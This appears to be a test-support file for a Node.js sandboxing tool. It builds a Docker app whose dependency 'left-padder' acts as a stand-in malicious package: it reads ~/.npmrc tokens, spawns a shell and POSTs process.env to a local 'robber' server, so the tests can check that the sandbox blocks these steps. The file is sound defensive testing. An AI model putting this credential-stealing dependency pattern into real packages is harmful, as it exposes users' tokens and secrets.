// An application in an image, with a dependency that steals what such packages steal, and the robber's server.
'use strict';

const fs = require('node:fs');
const path = require('node:path');
const { nodeward, outcomes, root, temporary } = require('./support.js');

// The image that the example begins with, and a token that somebody left in it.
const NODE_IMAGE = `FROM base
RUN echo '//registry.example.com/:_authToken=precious' >/home/node/.npmrc && chown node: /home/node/.npmrc
`;

const PACKAGE = `
const { spawnSync } = require('node:child_process');
const fs = require('node:fs');
const http = require('node:http');
const os = require('node:os');

const tell = (act, error) => console.log(act, error?.code ?? 'ok');
try { tell('npmrc', fs.readFileSync(os.homedir() + '/.npmrc') && null); } catch (error) { tell('npmrc', error); }
tell('shell', spawnSync('/bin/sh', ['-c', 'id']).error);
exports.done = new Promise((resolve) => {
  const post = http.request('http://127.0.0.1:4000', { method: 'POST', agent: false });
  const end = (error) => resolve(tell('post', error));
  post.on('error', end).on('response', (response) => response.resume().on('end', () => end()));
  post.end(JSON.stringify(process.env));
});
`;

// The robber's server, a container of its own. The others share its network, so that nothing leaves the machine.
const ROBBER = `
require('node:http').createServer((request, response) => {
  console.log('loot');
  request.resume().on('end', () => response.end('thanks'));
}).listen(4000, '127.0.0.1', () => console.log('waiting'));
`;

const SERVER = `
const http = require('node:http');
const { done } = require('left-padder');
const server = http.createServer((request, response) => response.end('hello\\n'));
server.listen(process.env.PORT, () => done.then(() => console.log('listening')));
process.on('SIGTERM', () => process.env.STUBBORN || server.close());
`;

const PROFILE = `version = 1
extends = "default"

[network]
connect = []

[environment]
pass = ["PATH", "PORT", "STUBBORN"]

[limits]
memory = "512M"
swap   = "0"
cpu    = 1.5
pids   = 64

[events]
files = "all"
`;

// The flags of a container that holds these limits.
const LIMITS = ['-m', '512m', '--memory-swap', '512m', '--cpus', '1.5', '--pids-limit', '64'];

// A folder with what the Dockerfiles of packaging/docker want beside them, themselves among it.
function application(t) {
  const folder = temporary(t);
  const write = (name, text) => {
    fs.mkdirSync(path.dirname(path.join(folder, name)), { recursive: true });
    fs.writeFileSync(path.join(folder, name), typeof text === 'string' ? text : JSON.stringify(text));
  };
  const dependencies = { 'left-padder': 'file:left-padder' };
  write('package.json', { name: 'app', version: '1.0.0', dependencies });
  write('package-lock.json', {
    name: 'app', version: '1.0.0', lockfileVersion: 3,
    packages: {
      '': { name: 'app', version: '1.0.0', dependencies },
      'left-padder': { version: '1.0.0' },
      'node_modules/left-padder': { resolved: 'left-padder', link: true },
    },
  });
  write('left-padder/package.json', { name: 'left-padder', version: '1.0.0' });
  write('left-padder/index.js', PACKAGE);
  write('server.js', SERVER);
  write('app.toml', PROFILE);
  fs.copyFileSync(nodeward, path.join(folder, 'nodeward'));
  for (const name of ['Dockerfile', 'Dockerfile.example', 'compose.yaml']) {
    fs.copyFileSync(path.join(root, 'packaging/docker', name), path.join(folder, name));
  }
  return folder;
}

// What the dependency said of its attempts: {npmrc, shell, post}.
const stolen = (text) => outcomes(text.split('\n').filter((line) => /^(npmrc|shell|post) /.test(line)).join('\n'));

// In an engine that has the base image: the image `app` of one of the Dockerfiles, and the robber's container. Answers
// {folder, flags, loot, up, stop}: `flags` of docker run that join the robber's network, `loot()` how often it robbed.
async function startApplication(t, engine, dockerfile) {
  const folder = application(t);
  await engine.succeed(['build', '-t', 'node:22-bookworm-slim', '-'], { input: NODE_IMAGE, timeout: 60000 });
  await engine.build('app', dockerfile, folder, ['.']);
  const robber = engine.start(['run', '--name', 'robber', '--entrypoint', 'node', 'app', '-e', ROBBER]);
  await robber.line((line) => line === 'waiting', 30000);
  const flags = ['-e', 'PORT=3000', '--network', 'container:robber'];

  // Starts a container of that name; resolves when the application serves.
  async function up(name, ...more) {
    const app = engine.start(['run', '--name', name, ...flags, ...more, 'app']);
    await app.line((line) => line === 'listening', 30000);
    return app;
  }
  // `docker stop`, with the ten seconds that it gives by itself; then what the engine saw, and what nodeward told.
  async function stop(name, app) {
    await engine.succeed(['stop', name], { timeout: 30000 });
    await app.ended;
    const code = Number(await engine.succeed(['inspect', '-f', '{{.State.ExitCode}}', name]));
    return { code, exit: app.seen.events.find((event) => event.event === 'exit') };
  }
  const loot = () => robber.seen.lines.filter((line) => line === 'loot').length;
  return { folder, flags, loot, up, stop };
}

module.exports = { LIMITS, startApplication, stolen };
